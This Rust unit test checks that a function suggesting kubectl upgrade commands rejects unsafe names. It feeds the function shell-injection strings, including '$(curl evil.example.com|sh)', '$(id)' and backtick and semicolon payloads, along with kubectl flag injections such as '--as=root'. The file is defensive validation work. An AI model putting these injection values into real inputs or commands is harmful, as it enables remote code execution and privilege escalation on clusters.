use super::*;

fn advice(reason: &str, name: &str) -> String {
    let cause = Cause {
        reason: reason.to_owned(),
        blocks: true,
        name: name.to_owned(),
        message: String::new(),
    };
    let names = Names {
        namespace: "upgrades",
        name: "spring",
        cluster: "edge-1",
    };
    what_to_do(&cause, names)
}

#[test]
fn a_command_has_only_names_that_mean_nothing_to_a_shell_or_to_kubectl() {
    let hostile = [
        "$(curl evil.example.com|sh)",
        "--as=root",
        "--kubeconfig=evil",
        "-A",
        "a b",
        "a;b",
        "a`b`",
        "a'b",
        "a\nb",
        "Leak\u{200b}",
        "L\u{e9}ak",
        "{cluster}",
    ];
    for name in hostile {
        for reason in ["RiskNotAccepted", "RiskUnknown", "AdminAckRequired"] {
            let text = advice(reason, name);
            assert!(
                !text.contains("kubectl mcu") && !text.contains(name),
                "{name}: {text}"
            );
        }
    }
    for key in [
        "ack-4.19-$(id)",
        "ack-4-x",
        "ack-4.19-",
        "ack-4.19-x y",
        "Leak",
        "ack-4.19-x\n",
    ] {
        assert!(!advice("AdminAckRequired", key).contains("kubectl mcu"), "{key}");
    }
    assert!(
        advice("RiskUnknown", "OVNIPsecConnectivity")
            .contains("kubectl mcu accept spring OVNIPsecConnectivity -n upgrades")
    );
    assert!(
        advice("AdminAckRequired", "ack-4.19-kube-1.33_x")
            .contains("kubectl mcu ack spring ack-4.19-kube-1.33_x -n upgrades")
    );
}
